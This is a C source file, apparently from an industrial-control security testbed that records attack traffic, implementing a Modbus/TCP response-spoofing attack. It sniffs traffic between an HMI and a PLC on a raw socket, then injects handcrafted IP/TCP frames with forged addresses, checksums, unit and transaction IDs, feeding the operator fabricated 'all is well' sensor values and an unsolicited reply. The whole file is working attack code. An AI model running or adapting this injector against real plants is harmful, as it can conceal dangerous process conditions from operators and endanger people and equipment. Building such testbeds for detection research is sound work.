/*
 * Answers that no PLC gave. The attacker hears the HMI ask PLC2 (the switch has forgotten who is
 * where and sends everything everywhere) and puts answers of its own into the conversation, as IP
 * packets made by hand.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <poll.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

#include "pcaps/plant/answer.h"
#include "pcaps/plant/errand.h"
#include "pcaps/plant/raw.h"
#include "pcaps/plant/variables.h"

#define ETHER	 14
#define IP	 20
#define TCP	 32 /* with NOP, NOP and time stamps */
#define HEADERS	 (ETHER + IP + TCP)
#define MBAP	 7
#define FRAME	 1600
#define WAIT_MS	 4000
#define QUIET_MS 250

enum { FUNCTION = 4, WRONG_UNIT = 17, WRONG_TRANSACTION = 0x0100, UNASKED = 0x7777 };

struct tap {
	int fd;
	uint8_t mac[ETH_ALEN];
	uint8_t client[4], plc[4];
};

/* A frame of the conversation with a Modbus message in it. */
struct heard {
	uint8_t bytes[FRAME];
	size_t len; /* of the ADU */
	bool request;
};

static uint32_t get32(const uint8_t *p)
{
	return (uint32_t)get16(p) << 16 | get16(p + 2);
}

static void put32(uint8_t *p, uint32_t value)
{
	put16(p, value >> 16);
	put16(p + 2, value & 0xffff);
}

static bool tap_open(struct tap *t, const char *plc)
{
	struct sockaddr_ll me = { .sll_family = AF_PACKET,
				  .sll_protocol = htons(ETH_P_IP),
				  .sll_ifindex = (int)if_nametoindex("eth0") };
	socklen_t len = sizeof(me);

	t->fd = socket(AF_PACKET, SOCK_RAW | SOCK_CLOEXEC, htons(ETH_P_IP));
	if (t->fd < 0 || inet_pton(AF_INET, plc, t->plc) != 1 ||
	    bind(t->fd, (const struct sockaddr *)&me, sizeof(me)) < 0 ||
	    getsockname(t->fd, (struct sockaddr *)&me, &len) < 0) {
		complain("cannot listen on eth0: %s", strerror(errno));
		return false;
	}
	inet_pton(AF_INET, hosts[host_find("hmi")].ip, t->client);
	memcpy(t->mac, me.sll_addr, sizeof(t->mac));
	return true;
}

/* The next message between the HMI and the PLC; false when none comes for so long. */
static bool tap_next(const struct tap *t, struct heard *h, int wait_ms)
{
	struct pollfd p = { .fd = t->fd, .events = POLLIN };

	while (!stop_asked() && poll(&p, 1, wait_ms) > 0) {
		ssize_t n = recv(t->fd, h->bytes, sizeof(h->bytes), 0);
		const uint8_t *ip = h->bytes + ETHER, *tcp = ip + IP;

		if (n < HEADERS + MBAP + 1 || ip[0] != 0x45 || ip[9] != IPPROTO_TCP ||
		    tcp[12] >> 4 != TCP / 4)
			continue;
		h->request = memcmp(ip + 12, t->client, 4) == 0 && get16(tcp + 2) == 502;
		h->len = (size_t)get16(ip + 2) - IP - TCP;
		if (h->request
			    ? memcmp(ip + 16, t->plc, 4) == 0
			    : memcmp(ip + 12, t->plc, 4) == 0 && memcmp(ip + 16, t->client, 4) == 0)
			return true;
	}
	return false;
}

/* Forgets what was heard while nobody listened. */
static void tap_drain(const struct tap *t)
{
	uint8_t byte;

	while (recv(t->fd, &byte, sizeof(byte), MSG_DONTWAIT) > 0)
		;
}

/* What stands in front of an answer that follows `h`, as if the PLC had sent it. */
static void headers(const struct tap *t, const struct heard *h, bool own_mac, uint8_t *f,
		    size_t len)
{
	const uint8_t *old = h->bytes + ETHER + IP;
	uint8_t *ip = f + ETHER, *tcp = ip + IP;
	bool r = h->request;

	memcpy(f, h->bytes, HEADERS);
	memcpy(f, h->bytes + (r ? ETH_ALEN : 0), ETH_ALEN);
	memcpy(f + ETH_ALEN, own_mac ? t->mac : h->bytes + (r ? 0 : ETH_ALEN), ETH_ALEN);
	put16(ip + 2, (unsigned)(IP + TCP + len));
	put16(ip + 4, get16(ip + 4) ^ 0x5a5aU);
	put16(ip + 10, 0);
	memcpy(ip + 12, t->plc, 4);
	memcpy(ip + 16, t->client, 4);
	put16(ip + 10, raw_folded(raw_sum(0, ip, IP)));
	put16(tcp, 502);
	put16(tcp + 2, get16(old + (r ? 0 : 2)));
	put32(tcp + 4, r ? get32(old + 8) : get32(old + 4) + (uint32_t)h->len);
	put32(tcp + 8, r ? get32(old + 4) + (uint32_t)h->len : get32(old + 8));
	tcp[13] = 0x18;
	put16(tcp + 16, 0);
	if (r) { /* the time stamps change places */
		memcpy(tcp + 24, old + 28, 4);
		memcpy(tcp + 28, old + 24, 4);
	}
}

/* The measured values of a plant where all is well. */
static size_t good_values(uint8_t *pdu)
{
	size_t n = 2;

	for (size_t i = 0; i < nvariables; i++) {
		const struct variable *v = &variables[i];
		uint16_t regs[2];

		if (v->host != host_find("plc2") || v->area != INPUT)
			continue;
		for (int j = 0, count = variable_registers(v, v->start, regs); j < count;
		     j++, n += 2)
			put16(pdu + n, regs[j]);
	}
	pdu[0] = FUNCTION;
	pdu[1] = (uint8_t)(n - 2);
	return n;
}

/* Puts an answer behind `h` into the conversation. */
static bool inject(const struct tap *t, const struct heard *h, unsigned transaction, unsigned unit,
		   bool own_mac)
{
	uint8_t f[FRAME] = { 0 }, *tcp = f + ETHER + IP, *adu = f + HEADERS;
	size_t len = MBAP + good_values(adu + MBAP);

	headers(t, h, own_mac, f, len);
	put16(adu, transaction);
	put16(adu + 4, (unsigned)(len - 6));
	adu[6] = (uint8_t)unit;
	put16(tcp + 16,
	      raw_folded(raw_sum(raw_sum(IPPROTO_TCP + TCP + (uint32_t)len, f + ETHER + 12, 8), tcp,
				 TCP + len)));
	return send(t->fd, f, HEADERS + len, 0) == (ssize_t)(HEADERS + len);
}

/* Waits for the HMI to read the measured values, and is faster than the PLC. */
static bool answer_first(struct visit *v, const struct tap *t, const char *what, unsigned added,
			 int unit, bool own_mac)
{
	struct heard h;
	const uint8_t *adu = h.bytes + HEADERS;

	tap_drain(t);
	do
		if (!tap_next(t, &h, WAIT_MS))
			return false;
	while (!h.request || adu[MBAP] != FUNCTION);
	if (!inject(t, &h, (get16(adu) + added) & 0xffff, unit < 0 ? adu[6] : (unsigned)unit,
		    own_mac))
		return false;
	say(v, "%s", what);
	return clock_sleep_ms(1500);
}

/* Waits until all is answered, and answers once more. */
static bool answer_unasked(struct visit *v, const struct tap *t)
{
	struct heard h, last = { .len = 0 };

	tap_drain(t);
	while (tap_next(t, &h, WAIT_MS) && h.request)
		;
	last = h;
	while (tap_next(t, &h, QUIET_MS))
		last = h;
	if (!last.len || last.request || !inject(t, &last, UNASKED, 1, false))
		return false;
	say(v, "an answer with transaction 0x7777, which nobody asked for");
	return clock_sleep_ms(2500);
}

int attack_spoof(struct visit *v)
{
	struct tap t = { .fd = -1 };
	bool ok;

	if (!tap_open(&t, v->address))
		return FAILED;
	ok = answer_first(v, &t, "an answer with values of its own, from its own MAC address", 0,
			  -1, true) &&
	     answer_first(v, &t, "the same, from its own MAC address", 0, -1, true) &&
	     answer_first(v, &t, "the same, from PLC2's MAC address", 0, -1, false) &&
	     answer_first(v, &t, "the same from unit 17", 0, WRONG_UNIT, false) &&
	     answer_first(v, &t, "the same with another transaction", WRONG_TRANSACTION, -1,
			  false) &&
	     answer_unasked(v, &t);
	close(t.fd);
	if (!ok)
		complain("the HMI and PLC2 could not be heard, or nothing could be sent");
	return ok ? DONE : FAILED;
}
